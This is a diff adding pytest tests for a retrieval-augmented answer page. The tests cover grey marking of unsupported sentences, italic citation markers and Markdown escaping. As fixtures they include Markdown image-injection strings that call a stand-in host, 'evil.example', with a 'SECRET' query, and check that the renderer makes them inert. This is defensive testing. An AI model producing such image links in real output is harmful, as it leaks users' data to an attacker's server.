@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import importlib.util
+import re
 import sys
 from collections.abc import Callable
 from itertools import count
@@ -11,7 +12,9 @@ from types import ModuleType
 
 import pytest
 
-from gpt4all_rag import Source, SyncReport
+from gpt4all_rag import Answer, Source, SyncReport
+from gpt4all_rag.evidence import Evidence
+from gpt4all_rag.grounding import SentenceSupport
 from tests.app.test_markdown import assert_inert
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -146,3 +149,111 @@ def test_the_feedback_store_is_one_per_file_and_process(page: ModuleType, tmp_pa
 
     assert page.feedback_store_at(str(tmp_path / "feedback.jsonl")) is first
     assert page.feedback_store_at(str(tmp_path / "other.jsonl")) is not first
+
+
+# --- the finished answer: evidence, inferred markers, unsupported claims ------------------
+
+
+def sentence(text: str, *, supported: bool = True, inferred: int = 0) -> SentenceSupport:
+    cited = (inferred,) if inferred else ()
+    return SentenceSupport(text, cited, 0.9 if supported else 0.2, bool(inferred), supported)
+
+
+def checked(*sentences: SentenceSupport) -> Answer:
+    text = " ".join(s.marked_text() for s in sentences)
+    return Answer(question="q", text=text, sentences=sentences)
+
+
+def gray_labels(markdown: str) -> list[str]:
+    """The labels of ``:gray[...]`` as a directive parser reads them (micromark's rule).
+
+    The label ends at the first ``]`` that closes the brackets opened in it; a
+    backslash escapes the character after it, code spans are not known.
+    """
+    labels = []
+    for start in (m.end() for m in re.finditer(r":gray\[", markdown)):
+        depth, index = 0, start
+        while index < len(markdown):
+            char = markdown[index]
+            if char == "\\":
+                index += 1
+            elif char == "[":
+                depth += 1
+            elif char == "]":
+                if depth == 0:
+                    break
+                depth -= 1
+            index += 1
+        labels.append(markdown[start:index])
+    return labels
+
+
+def test_an_invented_sentence_is_grey_with_a_note_and_an_added_marker_italic(
+    page: ModuleType,
+) -> None:
+    answer = checked(
+        sentence("Runs at 451 kelvin.", inferred=2),
+        sentence("Built by ] penguins ![x] on Mars.", supported=False),
+    )
+
+    shown = page.shown_answer(answer, "both")
+
+    assert shown.markdown == (
+        "Runs at 451 kelvin *\\[2\\]*\\. :gray[Built by \\] penguins \\!\\[x\\] on Mars\\.] "
+        ":gray[*\\(not found in your sources\\)*]"
+    )
+    assert gray_labels(shown.markdown) == [
+        "Built by \\] penguins \\!\\[x\\] on Mars\\.",
+        "*\\(not found in your sources\\)*",
+    ]
+    assert shown.notes == (
+        "Markers in *italics* were added by the source check, not by the model.",
+    )
+    assert page.shown_answer(answer, "evidence").markdown == ""
+
+
+def test_an_answer_with_code_is_shown_plain_with_the_claims_listed(page: ModuleType) -> None:
+    # A `]` inside code would end a :gray[ label early and let the rest of the code
+    # span be read as Markdown (an image): such answers are never wrapped.
+    invented = "Run `]![x](https://evil.example/i.png?q=SECRET)` to see it."
+    answer = checked(
+        sentence("Runs at 451 kelvin.", inferred=1), sentence(invented, supported=False)
+    )
+
+    shown = page.shown_answer(answer, "both")
+
+    assert shown.markdown == page.safe_markdown(answer.text)
+    assert ":gray[" not in shown.markdown
+    assert shown.notes == (
+        "Not found in your sources: “Run \\`\\]\\!\\[x\\]\\(`https://evil.example/i.png?q=SECRET`"
+        "\\)\\` to see it\\.”",
+        "Some \\[n\\] markers were added by the source check, not by the model.",
+    )
+    for markdown in (shown.markdown, *shown.notes):
+        assert_inert(markdown)
+
+
+def test_muted_wraps_only_text_without_code(page: ModuleType) -> None:
+    assert page.muted("manual\\.pdf · page 2") == ":gray[manual\\.pdf · page 2]"
+    assert page.muted("a \\` b") == ":gray[a \\` b]"  # an escaped backtick is text
+    assert page.muted("a `b]` c") == "a `b]` c"
+    assert page.muted("a \\\\`b]` c") == "a \\\\`b]` c"  # an escaped backslash, then code
+
+
+def test_evidence_quotes_hostile_text_as_text(page: ModuleType) -> None:
+    quote = Evidence(
+        text="Look ![x](https://evil.example/?q=SECRET)\nhere.",
+        source=2,
+        file="x.![](http:evil.example?q=1).md",
+        page=None,
+        score=0.9,
+    )
+
+    shown = page.evidence_markdown([quote])
+
+    assert shown == (
+        "- “Look \\!\\[x\\]\\(`https://evil.example/?q=SECRET`\\) here\\.” \\[2\\] "
+        ":gray[x\\.\\!\\[\\]\\(http\\:evil\\.example\\?q\\=1\\)\\.md]"
+    )
+    assert gray_labels(shown) == ["x\\.\\!\\[\\]\\(http\\:evil\\.example\\?q\\=1\\)\\.md"]
+    assert_inert(shown)
